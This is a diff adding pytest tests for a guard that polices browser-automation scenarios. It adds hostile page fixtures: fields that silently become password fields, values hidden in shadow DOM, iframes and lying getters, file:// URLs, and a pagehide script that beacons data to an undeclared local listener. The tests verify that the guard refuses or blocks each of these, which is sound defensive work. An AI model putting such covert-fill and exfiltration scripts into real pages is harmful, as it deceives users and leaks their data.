@@ -1,9 +1,12 @@
 """A scenario's author, careless or hostile, against the guard."""
 
 import shutil
-from collections.abc import Callable
-from contextlib import suppress
+import socket
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager, suppress
 from itertools import count
+from pathlib import Path
+from threading import Thread
 
 import pytest
 
@@ -109,6 +112,84 @@ def test_a_field_that_asks_for_a_persons_data_is_never_typed_into(
     assert "asks for a person's data" in refused(night, site({"": html}), tutorial_of(fill(label, "73000")))
 
 
+@pytest.mark.parametrize(
+    "turns",
+    [
+        "onmousemove = () => { c.type = 'password' }",
+        "c.onfocus = () => { c.type = 'password' }",
+        "onmousemove = () => { document.querySelector('label').textContent = 'Date de naissance' }",
+    ],
+)
+def test_a_field_that_becomes_another_one_is_not_typed_into(night: Night, site: Callable[..., str], turns: str) -> None:
+    def attendre(step: Step) -> None:
+        field = step.tell("Tapez dans « Code postal ».", step.field())
+        step.shoot()
+        step.hover(step.heading("Bonjour"))
+        step.fill(field, "73000")
+
+    assert "asks for" in refused(night, site({"": f"{FORM}<script>{turns}</script>"}), tutorial_of(attendre))
+
+
+def test_a_label_does_not_lead_to_its_field(night: Night, site: Callable[..., str]) -> None:
+    def contourner(step: Step) -> None:
+        step.shoot()
+        step.fill(step.heading("Code"), "73000")
+
+    html = "<label for=x>Votre <h2>Code</h2></label><input id=x type=password>"
+    assert "no field" in refused(night, site({"": html}), tutorial_of(contourner))
+
+
+def test_an_earlier_pages_step_acts_no_more(night: Night, site: Callable[..., str]) -> None:
+    kept: list[Step] = []
+
+    def premiere(step: Step) -> None:
+        kept.append(step)
+        step.shoot()
+
+    def formulaire(step: Step) -> None:
+        step.shoot()
+        kept[0].fill(kept[0].field("Code postal"), "73000")
+
+    tutorial = tutorial_of(premiere)
+    tutorial.form_only(2, "formulaire")(formulaire)
+    assert "earlier page" in refused(night, site({"": FORM}), tutorial)
+
+
+@pytest.mark.parametrize("sends", ["*", "pisteur.test/*"])
+def test_a_step_sends_to_declared_hosts_alone(night: Night, site: Callable[..., str], sends: str) -> None:
+    def chercher(step: Step) -> None:
+        step.shoot()
+        step.click(step.button("Chercher"), sends=[sends])
+
+    assert "would send" in refused(night, site({"": FORM}, toml=TOML), tutorial_of(chercher))
+
+
+@pytest.mark.parametrize("url", ["file:///etc/hostname", "data:text/html,<h1>Bonjour</h1>"])
+def test_a_step_opens_pages_of_sites_alone(night: Night, site: Callable[..., str], url: str) -> None:
+    def partir(step: Step) -> None:
+        step.go(url)
+        step.shoot()
+
+    assert "no page" in refused(night, site({"": FORM}), tutorial_of(partir))
+
+
+def test_what_is_to_be_clicked_away_sends_no_form(night: Night, site: Callable[..., str]) -> None:
+    form = FORM.replace("method=post", "method=get")
+    record = night(site({"": form}), [tutorial_of(lecture, dismiss=["form button"])])
+    assert page_of(record, 1).url == START
+    assert record.tutorials[0].loads == 1
+
+
+def test_a_host_of_resources_is_no_page(night: Night, site: Callable[..., str]) -> None:
+    toml = f'[[route]]\nurl = "{START}"\nredirect = "https://autre.exemple.test/"\n'
+    name = site({"": FORM}, toml=toml)
+    other = Path(name) / "autre.exemple.test"
+    other.mkdir()
+    (other / "index.html").write_text("<!doctype html><html lang=fr><h1>Bonjour</h1>", "utf-8")
+    record = night(name, [tutorial_of(lecture, resources=["autre.exemple.test"])])
+    assert page_of(record, 1).verdict is Verdict.UNREACHABLE
+
+
 def test_a_value_that_is_not_declared_public_is_never_typed(night: Night, site: Callable[..., str]) -> None:
     assert "public_values" in refused(night, site({"": FORM}), tutorial_of(fill("Code postal", "73001")))
 
@@ -141,6 +222,7 @@ def test_a_form_only_page_may_only_be_looked_at(night: Night, site: Callable[...
         lambda page: page.add_init_script("1"),
         lambda page: page.locator("#c").page.fill("#c", "73000"),
         lambda page: page.route("**/*", lambda route: route.continue_()),
+        lambda page: page.wait_for_function("1"),
     ],
 )
 def test_nothing_goes_past_the_step(night: Night, site: Callable[..., str], act: Callable[[Finder], object]) -> None:
@@ -155,9 +237,30 @@ TYPED_BY_THE_PAGE = FORM.replace("autocomplete=off", "autocomplete=off value=que
 TYPED_BY_A_SCRIPT = FORM + "<script>document.querySelector('#c').value = 'quelquun'</script>"
 SECOND_FIELD = FORM.replace("<button>", "<textarea aria-label=Notes>quelquun</textarea><button>")
 EDITED = FORM + "<div contenteditable role=textbox aria-label=Notes>quelquun</div>"
+EDITED_INLINE = FORM + "<p>Notes : <span contenteditable>quelquun</span></p>"
+IN_THE_SHADOW = FORM + "<div id=d></div><script>d.attachShadow({mode: 'open'}).innerHTML = '<input value=x>'</script>"
+IN_A_FRAME = FORM + "<iframe srcdoc='<input value=quelquun>'></iframe>"
+LYING = FORM + "<script>c.value = 'x'; Object.defineProperty(c, 'value', { get: () => '' })</script>"
+AS_THE_PICTURE_IS_TAKEN = (
+    FORM + "<script>new MutationObserver(all => { if (all.some(({addedNodes}) => [...addedNodes].some(node =>"
+    " node.nodeName === 'STYLE'))) c.value = 'x' }).observe(document, { childList: true, subtree: true })</script>"
+)
 
 
-@pytest.mark.parametrize("html", [TYPED_BY_THE_PAGE, TYPED_BY_A_SCRIPT, SECOND_FIELD, EDITED])
+@pytest.mark.parametrize(
+    "html",
+    [
+        TYPED_BY_THE_PAGE,
+        TYPED_BY_A_SCRIPT,
+        SECOND_FIELD,
+        EDITED,
+        EDITED_INLINE,
+        IN_THE_SHADOW,
+        IN_A_FRAME,
+        LYING,
+        AS_THE_PICTURE_IS_TAKEN,
+    ],
+)
 def test_a_field_that_the_scenario_did_not_fill_refuses_the_picture(
     night: Night, site: Callable[..., str], html: str
 ) -> None:
@@ -346,3 +449,52 @@ def test_a_page_that_is_somebodys_at_the_second_look_is_taken_back(
     night.approve(first)
     shutil.rmtree(night.runs / first.id)
     assert "knows somebody" in refused(night, name, tutorial_of(lecture))
+
+
+AT_THE_END = """<h1>Bonjour</h1><script>addEventListener("pagehide", () => {
+  for (const host of ["", "//{intruder}"]) {
+    navigator.sendBeacon(host + "/fin", "x");
+    fetch(host + "/fin", { method: "POST", keepalive: true, mode: "no-cors" });
+  }
+});</script>"""
+
+
+def test_nothing_leaves_as_a_page_is_closed_nor_for_this_machine(night: Night, site: Callable[..., str]) -> None:
+    with listening() as (address, heard):
+        html = AT_THE_END.replace("{intruder}", address) + f"<img src=http://{address}/image>"
+        toml = f'[[route]]\nurl = "{START}fin"\nmethod = "POST"\nstatus = 204\n'
+        record = night(site({"": html}, toml=toml), [tutorial_of(lecture)])
+        assert page_of(record, 1).verdict is Verdict.NEW
+    assert heard == []
+    assert ("127.0.0.1", "undeclared host") in {(one.host, one.why) for one in record.tutorials[0].stopped}
+
+
+@pytest.mark.parametrize("way", ["page", "img", "iframe"])
+def test_a_redirect_leads_to_no_other_server_of_this_machine(night: Night, site: Callable[..., str], way: str) -> None:
+    with listening() as (address, heard):
+        toml = f'[[route]]\nurl = "{START}ailleurs"\nredirect = "http://{address}/"\n'
+        tag = {"page": "", "img": "<img src=/ailleurs>", "iframe": "<iframe src=/ailleurs></iframe>"}[way]
+        tutorial = tutorial_of(lecture)
+        tutorial.page(2, "suite", starts_at=f"{START}{'ailleurs' if way == 'page' else ''}")(lecture)
+        night(site({"": f"<h1>Bonjour</h1>{tag}"}, toml=toml), [tutorial])
+    assert heard == []
+
+
+@contextmanager
+def listening() -> Iterator[tuple[str, list[str]]]:
+    """A server that nobody declared: its address, and the connections that it heard."""
+    heard: list[str] = []
+
+    def accept() -> None:
+        with suppress(OSError):
+            while True:
+                connection, _ = server.accept()
+                heard.append(connection.recv(100).decode("latin-1"))
+                connection.close()
+
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        thread = Thread(target=accept, daemon=True)
+        thread.start()
+        yield f"127.0.0.1:{server.getsockname()[1]}", heard
+        server.shutdown(socket.SHUT_RDWR)
+        thread.join()
